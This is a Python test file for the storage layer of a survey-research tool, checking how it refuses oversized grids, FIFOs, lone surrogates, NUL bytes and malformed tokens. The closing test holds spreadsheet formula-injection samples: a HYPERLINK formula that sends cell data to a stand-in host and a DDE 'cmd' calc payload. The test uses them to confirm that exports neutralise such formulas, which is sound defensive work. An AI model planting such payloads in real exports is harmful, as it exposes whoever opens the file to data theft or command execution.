"""Bad input at the storage layer's doors (issue 14): huge grids in study files and
exports, lone surrogates and NUL in participant text, exports that must survive
what the database holds. Both backends, through the store and the command line."""
from __future__ import annotations

import json

import pytest
from badinput import assert_one_line_error, run_capped

from qmethod.grid import MAX_GRID_SCORE

BOUND_TEXT = f"-{MAX_GRID_SCORE}..+{MAX_GRID_SCORE}"
HUGE_GRID = {"low": -100_000_000, "high": 100_000_000, "heights": [1, 1],
             "labels": ["Disagree", "Agree"]}


def _cli(backend, *args, **kw):
    url, schema = backend.url("cli")
    return run_capped("-m", "storage", "--database-url", url, *(["--schema", schema] if schema else []),
                      *args, **kw)


def test_demo_of_a_study_with_a_huge_grid_is_one_line(backend, tmp_path):
    from refdata import REPO
    text = (REPO / "statements" / "coproduction.yaml").read_text(encoding="utf-8")
    start = text.index("\ngrid:")
    end = text.index("\n", text.index("labels:", start))
    study = tmp_path / "huge.yaml"
    study.write_text(text[:start] + "\ngrid:\n  low: -100000000\n  high: 100000000\n"
                     "  heights: [1, 1]\n  labels: [a, b]" + text[end:], encoding="utf-8")
    assert_one_line_error(_cli(backend, "demo", "--study", study), BOUND_TEXT)


def test_import_of_an_export_with_a_huge_grid_is_one_line(backend, store, tiny, tmp_path):
    store.publish_study(tiny)
    export = tmp_path / "tiny.json"
    from storage.transfer import write_study_file
    write_study_file(store, "tiny", export)
    data = json.loads(export.read_text(encoding="utf-8"))
    data["versions"][0]["definition"]["grid"] = HUGE_GRID
    export.write_text(json.dumps(data), encoding="utf-8")
    assert_one_line_error(_cli(backend, "import", export, "--slug", "huge"), BOUND_TEXT)


@pytest.mark.parametrize("command", ["import", "restore"])
def test_import_and_restore_refuse_fifos_and_devices(backend, tmp_path, command):
    import os
    fifo = tmp_path / f"fifo-{command}.json"
    os.mkfifo(fifo)
    zero = tmp_path / f"zero-{command}.json"
    zero.symlink_to("/dev/zero")
    for path in (fifo, zero):
        p = _cli(backend, command, path, timeout=30)
        assert_one_line_error(p, path.name, "only regular files are read")


def test_export_refuses_a_fifo_destination(backend, store, tiny, tmp_path):
    import os
    store.publish_study(tiny)
    fifo = tmp_path / "out.json"
    os.mkfifo(fifo)
    from qmethod.errors import OutputError
    from storage.backup import backup
    from storage.transfer import write_study_file
    for write in (lambda: write_study_file(store, "tiny", fifo), lambda: backup(store, fifo)):
        with pytest.raises(OutputError, match="out.json: cannot write here, it is a FIFO"):
            write()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.json"] and fifo.is_fifo()


# -- 4./5. lone surrogates and NUL refused at every door, the same on both backends ------------
def _consented(store, tiny):
    store.publish_study(tiny)
    token = store.create_invitations("tiny", 1)[0]
    store.start_session("tiny", token)
    store.record_consent(token)
    return token


BAD_TEXTS = {"surrogate": "P\ud800x", "nul": "P\x00x"}


@pytest.mark.parametrize("bad", sorted(BAD_TEXTS))
@pytest.mark.parametrize("where", ["answer", "answer_key", "user_agent", "presort", "timing_key"])
def test_submit_refuses_unstorable_text(backend, store, tiny, sort_of, bad, where):
    from storage.errors import InvalidSubmission, UnstorableText
    token = _consented(store, tiny)
    text = BAD_TEXTS[bad]
    sub = {"placements": sort_of(0), "answers": {"why": "fine"}, "user_agent": "ua"}
    if where == "answer":
        sub["answers"] = {"why": text}
    elif where == "answer_key":
        sub["answers"] = {"why": "fine", text: "x"}
    elif where == "user_agent":
        sub["user_agent"] = text
    elif where == "presort":
        sub["presort"] = {"t1": text}
    else:
        sub["timings"] = {text: 1.0}
    with pytest.raises(UnstorableText) as info:
        store.submit(token, sub)
    assert isinstance(info.value, InvalidSubmission) and info.value.code == "unstorable_text"
    message = str(info.value)
    assert "\n" not in message and ("NUL" if bad == "nul" else "lone surrogate") in message
    message.encode("utf-8")
    assert store.count_responses("tiny") == 0
    assert store.submit(token, {"placements": sort_of(0), "answers": {"why": "fine"}}).created


@pytest.mark.parametrize("bad", sorted(BAD_TEXTS))
def test_drafts_and_labels_refuse_unstorable_text(backend, store, tiny, sort_of, bad):
    from storage.errors import UnstorableText
    token = _consented(store, tiny)
    text = BAD_TEXTS[bad]
    with pytest.raises(UnstorableText, match="draft.answers.why"):
        store.save_draft(token, {"placements": sort_of(0), "answers": {"why": text}}, step="grid")
    with pytest.raises(UnstorableText):
        store.save_draft(token, {"placements": {}}, step=text)
    assert store.get_session(token).draft is None
    with pytest.raises(UnstorableText, match="label"):
        store.create_invitations("tiny", 1, label=text)


@pytest.mark.parametrize("bad", sorted(BAD_TEXTS))
def test_study_designs_refuse_unstorable_text(backend, store, bad):
    from storage.errors import UnstorableText
    from studies.drafting import new_study_content
    owner = store.create_researcher("ana@example.org", "correct horse")
    content = new_study_content("mine", "Mine", [{"id": "a", "text": "A"}, {"id": "b", "text": "B"}])
    content["title"] = BAD_TEXTS[bad]
    with pytest.raises(UnstorableText, match="title"):
        store.create_study("mine", content, owner=owner)
    content["title"] = "Fine"
    store.create_study("mine", content, owner=owner)
    content["welcome"] = BAD_TEXTS[bad]
    with pytest.raises(UnstorableText, match="welcome"):
        store.save_study_draft("mine", content, by=owner)


@pytest.mark.parametrize("token", ["\x00", "abc\x00def", "%00", "A" * 23 + "\x00", "A" * 24 + "\ud800",
                                   "", "x" * 65, None, 12])
def test_malformed_tokens_are_unknown_links(backend, store, tiny, token):
    from storage.errors import UnknownToken
    store.publish_study(tiny)
    for call in (lambda: store.start_session("tiny", token), lambda: store.get_session(token),
                 lambda: store.record_consent(token),
                 lambda: store.save_draft(token, {"placements": {}}, step="grid"),
                 lambda: store.submit(token, {"placements": {}}),
                 lambda: store.withdraw_response(token),
                 lambda: store.revoke_invitation("tiny", token)):
        with pytest.raises(UnknownToken):
            call()


def _sqlite_holding_bad_text(tmp_path, tiny, sort_of):
    """A SQLite database whose response answer holds a lone surrogate, as an
    older version (which had no door check) could store it. PostgreSQL never
    held one: it refused the row."""
    from sqlalchemy import text

    from storage import Store
    url = f"sqlite:///{tmp_path / 'old.sqlite3'}"
    store = Store.from_url(url)
    token = _consented(store, tiny)
    store.submit(token, {"placements": sort_of(0), "answers": {"why": "fine"}})
    with store.engine.begin() as conn:
        conn.execute(text("UPDATE responses SET answers = :a"), {"a": '{"why": "P\\ud800x"}'})
    store.clear_cache()
    assert store.responses("tiny")[0].answers["why"] == "P\ud800x"
    return store, url


def test_exports_survive_what_the_database_holds(tmp_path, tiny, sort_of):
    store, url = _sqlite_holding_bad_text(tmp_path, tiny, sort_of)
    store.close()
    out = tmp_path / "out"
    out.mkdir()
    export = out / "tiny.json"
    p = run_capped("-m", "storage", "--database-url", url, "export", "tiny", export)
    assert p.returncode == 0, p.stderr
    assert "\\ud800" in export.read_text(encoding="utf-8")       # kept, escaped
    for name in ("sorts.csv", "sorts.dat", "sorts.json"):
        p = run_capped("-m", "storage", "--database-url", url, "export-sorts", "tiny", out / name)
        assert p.returncode == 0, p.stderr
    p = run_capped("-m", "storage", "--database-url", url, "backup", out / "all.jsonl")
    assert p.returncode == 0, p.stderr
    assert not [f.name for f in out.iterdir() if "part" in f.name]
    # the import names where the text is and stores nothing
    p = run_capped("-m", "storage", "--database-url", url, "import", export, "--slug", "copy")
    assert_one_line_error(p, "tiny.json", "answers.why", "lone surrogate", "nothing was imported")
    p = run_capped("-m", "storage", "--database-url", f"sqlite:///{tmp_path / 'new.sqlite3'}",
                   "restore", out / "all.jsonl")
    assert_one_line_error(p, "all.jsonl", "'responses'", "'answers'", "lone surrogate")


def test_export_of_a_definition_with_bad_text_is_one_line(tmp_path, tiny, sort_of):
    """A study text stored before the doors were shut: every exporter ends in one
    line and leaves no file behind."""
    from sqlalchemy import text
    store, url = _sqlite_holding_bad_text(tmp_path, tiny, sort_of)
    with store.engine.begin() as conn:
        conn.execute(text("UPDATE study_versions SET definition = replace(definition, "
                          "'Tiny statement number 1.', 'Tiny \\ud800')"))
    store.close()
    out = tmp_path / "out"
    out.mkdir()
    for args in (("export", "tiny", out / "t.json"), ("export-sorts", "tiny", out / "t.csv"),
                 ("export-sorts", "tiny", out / "t.dat"), ("export-sorts", "tiny", out / "t.json")):
        p = run_capped("-m", "storage", "--database-url", url, *args)
        assert p.returncode in (0, 2) and "Traceback" not in p.stderr, p.stderr
        if p.returncode == 2:
            assert_one_line_error(p)
    assert not [f.name for f in out.iterdir() if "part" in f.name]


@pytest.mark.parametrize("bad", sorted(BAD_TEXTS))
def test_import_refuses_unstorable_text_on_both_backends(backend, store, tiny, sort_of, tmp_path, bad):
    from storage.errors import ImportFailed
    from storage.transfer import import_study, write_study_file
    token = _consented(store, tiny)
    store.submit(token, {"placements": sort_of(0), "answers": {"why": "fine"}})
    path = write_study_file(store, "tiny", tmp_path / f"tiny-{bad}.json")
    data = json.loads(path.read_text(encoding="utf-8"))
    data["versions"][0]["responses"][0]["answers"]["why"] = BAD_TEXTS[bad]
    with pytest.raises(ImportFailed, match=r"versions\[0\].responses\[0\].answers.why"):
        import_study(store, data, slug="copy")
    assert "copy" not in [i.slug for i in store.list_studies()]


# -- 6. exports are neutralised for spreadsheets ----------------------------------------------
def test_export_sorts_neutralises_formula_texts(backend, store, make_tiny, sort_of, tmp_path):
    import csv

    from qmethod.cells import needs_quote
    from storage.transfer import export_sorts
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    defn = make_tiny(title="+cmd|' /C calc'!A0", texts={"t1": evil, "t2": "@SUM(A1)", "t3": "-1.5"})
    store.publish_study(defn)
    for k in range(3):
        token = store.create_invitations("tiny", 1)[0]
        store.start_session("tiny", token)
        store.record_consent(token)
        store.submit(token, {"placements": sort_of(k), "answers": {"why": "=1+1"}})
    paths = export_sorts(store, "tiny", tmp_path / "t.csv") + export_sorts(store, "tiny", tmp_path / "t.dat")
    for p in paths:
        if p.suffix == ".csv":
            with open(p, encoding="utf-8", newline="") as f:
                cells = [c for row in csv.reader(f) for c in row]
            assert not [c for c in cells if needs_quote(c)], cells
    texts = dict(csv.reader(open(tmp_path / "t.statements.csv", encoding="utf-8", newline="")))
    assert texts["t1"] == "'" + evil and texts["t3"] == "-1.5"
    sta = (tmp_path / "t.sta").read_text(encoding="utf-8").splitlines()
    assert sta[0].startswith("'=HYPERLINK") and sta[1].startswith("'@SUM")
    assert (tmp_path / "t.dat").read_text(encoding="utf-8").splitlines()[0][10:].startswith("'+cmd")
